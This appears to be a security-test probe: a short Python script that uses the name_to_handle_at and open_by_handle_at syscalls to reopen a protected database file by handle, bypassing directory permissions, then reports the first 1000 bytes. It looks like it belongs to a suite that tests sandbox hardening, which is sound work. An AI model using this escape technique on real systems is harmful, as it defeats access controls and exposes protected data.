"""Open the database by its handle, past the permissions on the way."""

import ctypes
import os
import struct

from hostile import call, targets, tell

folder = os.open("/", os.O_RDONLY)
handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 136)
mount = ctypes.c_int()
call(303, 264, -100, targets["database"].encode(), handle, ctypes.byref(mount), 0)
descriptor = call(304, 265, folder, handle, os.O_RDONLY)
tell(os.read(descriptor, 1000))
